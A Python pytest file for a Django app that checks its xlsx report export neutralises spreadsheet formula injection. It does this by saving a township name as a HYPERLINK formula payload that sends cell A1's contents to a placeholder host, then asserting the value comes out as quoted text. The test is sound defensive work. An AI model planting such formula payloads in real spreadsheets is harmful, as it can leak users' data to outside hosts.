"""Issue 14 point 7: an area named like a formula comes out of the report's spreadsheet as inert text."""

from __future__ import annotations

from io import BytesIO

import pytest
from django.test import Client
from openpyxl import load_workbook

from tests.base import World

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://x"&A1,"y")'


def test_a_formula_area_name_is_a_plain_string_in_the_xlsx(world: World) -> None:
    world.township_a.name = FORMULA
    world.township_a.save(update_fields=["name"])
    client = Client()
    client.force_login(world.county_d)
    response = client.get("/reports/xlsx", {"area": "320508", "period": "2025"})
    assert response.status_code == 200
    book = load_workbook(BytesIO(response.content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]  # no formula anywhere
    named = [
        (cell.data_type, cell.value) for cell in cells if isinstance(cell.value, str) and "HYPERLINK" in cell.value
    ]
    assert named and all(kind == "s" and value.startswith(f"'{FORMULA}") for kind, value in named)
